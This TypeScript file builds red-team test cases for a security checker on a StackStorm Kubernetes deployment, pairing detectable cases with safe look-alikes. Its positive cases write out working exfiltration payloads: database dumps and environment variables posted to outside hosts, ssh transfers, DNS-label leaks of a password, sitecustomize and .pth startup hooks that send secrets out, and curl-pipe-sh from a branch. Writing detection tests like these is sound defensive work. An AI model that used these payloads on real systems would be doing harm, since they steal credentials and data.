/**
 * The tenth red team's exfiltration and supply-chain holes (docs/red-team.md,
 * "Tenth attacker", edge piece), rewritten with variants and safe
 * look-alikes: a dump or a secret sent by Python's HTTP clients, ssh or DNS
 * labels (ST2-SEC-016), st2's calls through an outside plain-HTTP proxy
 * (ST2-SEC-022), a Python startup hook sending out (ST2-SEC-023), code from
 * a branch piped into sh (ST2-SEC-019), packages over plain http, without TLS
 * checks or from a branch (ST2-SEC-024).
 */
import type { Patch, RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { SPEC, FIRST, DEPLOY, patch, type Json } from './targets.js';

const LIM = { requests: { cpu: '10m', memory: '32Mi' }, limits: { cpu: '200m', memory: '128Mi' } };
const SC = { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] } };
const SECRET_ENV = [{ name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }];
const DUMP = {
  name: 'dump',
  image: 'mongo:4.4.29',
  command: ['sh', '-c', 'mongodump --uri "mongodb://${U}:${P}@mongodb-0.mongodb:27017/?authSource=admin&replicaSet=rs0" --archive=/dump/st2.gz --gzip'],
  env: [{ name: 'U', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'user' } } }, ...SECRET_ENV],
  volumeMounts: [{ name: 'dump', mountPath: '/dump' }],
  resources: { requests: { cpu: '50m', memory: '64Mi' }, limits: { cpu: '500m', memory: '256Mi' } },
  securityContext: SC,
};

/** A nightly CronJob: the dump in an init container (or none), the sender in the main one. */
const cron = (image: string, script: string, dump = true, env: Json[] = SECRET_ENV): Json => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: { name: 'f11-offsite' },
  spec: {
    schedule: '30 3 * * *',
    jobTemplate: {
      spec: {
        template: {
          spec: {
            restartPolicy: 'OnFailure',
            securityContext: { runAsNonRoot: true, runAsUser: 999, runAsGroup: 999, seccompProfile: { type: 'RuntimeDefault' } },
            ...(dump ? { initContainers: [DUMP] } : {}),
            containers: [{ name: 'ship', image, command: ['sh', '-c'], args: [script], env, volumeMounts: [{ name: 'dump', mountPath: '/srv/out' }], resources: LIM, securityContext: SC }],
            volumes: [{ name: 'dump', emptyDir: {} }],
          },
        },
      },
    },
  },
});

const runnerEnv = (vars: Record<string, string>): Patch => patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${FIRST}/env`, value: Object.entries(vars).map(([name, value]) => ({ name, value })) });
const init = (image: string, script: string): Patch =>
  patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${SPEC}/initContainers/0`, value: { name: 'bootstrap-tools', image, command: ['sh', '-c', script], resources: LIM, securityContext: SC } });
const hook = (name: string, text: string): CaseBody => ({
  resources: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'st2api-hooks' }, data: { [name]: text } }],
  patches: [
    patch(
      DEPLOY('st2api'),
      { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'hooks', configMap: { name: 'st2api-hooks' } } },
      { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'hooks', mountPath: '/opt/hooks', readOnly: true } },
      { op: 'add', path: `${FIRST}/env`, value: [{ name: 'PYTHONPATH', value: '/opt/hooks' }] },
    ),
  ],
});
const registerContent = (first: string): Patch =>
  patch(
    { group: 'batch', kind: 'Job', name: 'st2-register-content' },
    { op: 'replace', path: `${FIRST}/command`, value: ['sh', '-ec'] },
    { op: 'replace', path: `${FIRST}/args`, value: [`${first} && exec /opt/stackstorm/st2/bin/st2-register-content --config-file=/etc/st2/st2.conf --config-file=/etc/st2/st2.docker.conf --config-file=/etc/st2/st2.user.conf --register-all --register-fail-on-failure --config-file=/etc/st2/st2.secrets.conf`] },
  );

export function fresh11EgressCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f11x-${id}`, cls, rule, body));
  };

  // --- a dump or a secret out by Python, ssh or DNS (ST2-SEC-016) -------------------------------------
  add('python-urllib-dump', 'secrets', 'ST2-SEC-016', { resources: [cron('python:3.12.7-slim', `python3 -c "import urllib.request; urllib.request.urlopen(urllib.request.Request('https://dumps.partner-analytics.io/upload', data=open('/srv/out/st2.gz','rb').read()))"`)] });
  add('python-requests-env', 'secrets', 'ST2-SEC-016', { resources: [cron('python:3.12.7-slim', `python3 -c "import os, requests; requests.post('https://collect.example.io/e', json=dict(os.environ))"`, false)] });
  add('ssh-dump', 'secrets', 'ST2-SEC-016', { resources: [cron('alpine/git:2.45.2', `ssh -o StrictHostKeyChecking=no backup@203.0.113.50 'cat > /srv/st2.gz' < /srv/out/st2.gz`)] });
  add('ssh-dump-piped', 'secrets', 'ST2-SEC-016', { resources: [cron('alpine/git:2.45.2', `cat /srv/out/st2.gz | ssh -p 2222 -i /tmp/k backup@dumps.example.net 'cat > st2.gz'`)] });
  add('dns-secret-labels', 'secrets', 'ST2-SEC-016', { resources: [cron('busybox:1.36.1', `for c in $(printf '%s' "$P" | od -An -tx1 | tr -d ' \\n' | fold -w 60); do nslookup "$c.x.exfil-zone.net" || true; done`, false)] });
  add('dns-dig-base32', 'secrets', 'ST2-SEC-016', { resources: [cron('alpine:3.20.3', `part=$(printf '%s' "$P" | base32 | tr -d =); dig +short "\${part}.t.example.org" >/dev/null`, false)] });
  add('safe-ssh-to-cluster-sftp', 'secrets', undefined, { resources: [cron('alpine/git:2.45.2', `ssh backup@sftp.st2-prod.svc 'cat > /srv/st2.gz' < /srv/out/st2.gz`)] });
  add('safe-python-to-minio', 'secrets', undefined, { resources: [cron('python:3.12.7-slim', `python3 -c "import requests; requests.put('http://minio.st2-prod.svc:9000/backups/st2.gz', data=open('/srv/out/st2.gz','rb'))"`)] });
  add('safe-nslookup-wait', 'secrets', undefined, { resources: [cron('busybox:1.36.1', 'until nslookup mongodb-0.mongodb; do sleep 2; done; printf "%s" "$P" | sha256sum', false)] });

  // --- st2's calls through an outside proxy (ST2-SEC-022) ---------------------------------------------
  add('proxy-outside', 'delivery', 'ST2-SEC-022', { patches: [runnerEnv({ HTTP_PROXY: 'http://proxy.outside-vendor.net:3128', HTTPS_PROXY: 'http://proxy.outside-vendor.net:3128' })] });
  add('proxy-all-lowercase-svc-only', 'delivery', 'ST2-SEC-022', { patches: [runnerEnv({ all_proxy: 'http://203.0.113.80:8080', no_proxy: '.svc,.cluster.local,localhost' })] });
  add('safe-proxy-outside-bypassing-st2', 'delivery', undefined, { patches: [runnerEnv({ HTTP_PROXY: 'http://proxy.corp.example.net:3128', NO_PROXY: 'st2api,st2auth,st2stream,mongodb,rabbitmq,etcd,.svc,.cluster.local,localhost' })] });
  add('safe-proxy-https-only', 'delivery', undefined, { patches: [runnerEnv({ HTTPS_PROXY: 'http://proxy.corp.example.net:3128' })] });

  // --- Python startup hooks (ST2-SEC-023) ------------------------------------------------------------
  add('sitecustomize-posts-env', 'delivery', 'ST2-SEC-023', hook('sitecustomize.py', "import json, os, urllib.request\ntry:\n    urllib.request.urlopen(urllib.request.Request('https://telemetry.metrics-collector.io/v1/ingest', data=json.dumps(dict(os.environ)).encode()), timeout=2)\nexcept Exception:\n    pass\n"));
  add('pth-import-sender', 'delivery', 'ST2-SEC-023', hook('zz-telemetry.pth', "import socket; socket.create_connection(('203.0.113.9', 443)).sendall(open('/etc/st2/st2.secrets.conf','rb').read())\n"));
  add('safe-sitecustomize-logging', 'delivery', undefined, hook('sitecustomize.py', 'import logging\nlogging.getLogger("urllib3").setLevel(logging.WARNING)\n'));

  // --- code from a moving URL (ST2-SEC-019) -----------------------------------------------------------
  add('curl-https-branch-sh', 'delivery', 'ST2-SEC-019', { patches: [init('stackstorm/st2actionrunner:3.8.1', 'curl -fsSL https://raw.githubusercontent.com/acme-ops/st2-bootstrap/main/install.sh | sh')] });
  add('wget-https-saved-unchecked', 'delivery', 'ST2-SEC-019', { patches: [init('busybox:1.36.1', 'wget -O /tmp/i.sh https://tools.example.net/latest/i.sh && sh /tmp/i.sh')] });
  add('safe-curl-https-commit', 'delivery', undefined, { patches: [init('stackstorm/st2actionrunner:3.8.1', 'curl -fsSL https://raw.githubusercontent.com/acme-ops/st2-bootstrap/4f2c1d0e9b8a7f6e5d4c3b2a1f0e9d8c7b6a5f4e/install.sh | sh')] });
  add('safe-saved-sha256-checked', 'delivery', undefined, { patches: [init('stackstorm/st2actionrunner:3.8.1', 'curl -fsSLo /tmp/i.sh https://tools.example.net/v1.4.2/i.sh && echo "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  /tmp/i.sh" | sha256sum -c - && sh /tmp/i.sh')] });

  // --- packages over plain http, without TLS checks, from a branch (ST2-SEC-024) ----------------------
  add('pack-install-branch', 'delivery', 'ST2-SEC-024', { patches: [registerContent('st2 pack install https://github.com/some-user/stackstorm-ops-tools.git')] });
  add('pack-install-main', 'delivery', 'ST2-SEC-024', { patches: [registerContent('st2 pack install https://github.com/some-user/stackstorm-ops-tools.git=main')] });
  add('pip-git-main', 'delivery', 'ST2-SEC-024', { patches: [init('stackstorm/st2actionrunner:3.8.1', '/opt/stackstorm/st2/bin/pip install git+https://github.com/some-user/st2-helpers.git@main')] });
  add('pip-index-http', 'delivery', 'ST2-SEC-024', { patches: [runnerEnv({ PIP_INDEX_URL: 'http://pypi-mirror.example.net/simple', PIP_TRUSTED_HOST: 'pypi-mirror.example.net' })] });
  add('pip-trusted-host-https', 'delivery', 'ST2-SEC-024', { patches: [runnerEnv({ PIP_INDEX_URL: 'https://pypi-mirror.example.net/simple', PIP_TRUSTED_HOST: 'pypi-mirror.example.net' })] });
  add('safe-pack-install-tag', 'delivery', undefined, { patches: [registerContent('st2 pack install https://github.com/StackStorm-Exchange/stackstorm-aws.git=v2.1.4')] });
  // No name tells a company's mirror from anyone's: the bundle's owner lists it (delivery.package_source_hosts).
  add('pip-index-https-unlisted', 'delivery', 'ST2-SEC-024', { patches: [runnerEnv({ PIP_INDEX_URL: 'https://pypi-mirror.example.net/simple' })] });
  add('safe-pip-index-in-cluster', 'delivery', undefined, { patches: [runnerEnv({ PIP_INDEX_URL: 'https://devpi.pypi-mirror.svc/root/pypi/+simple/' })] });

  return cases;
}
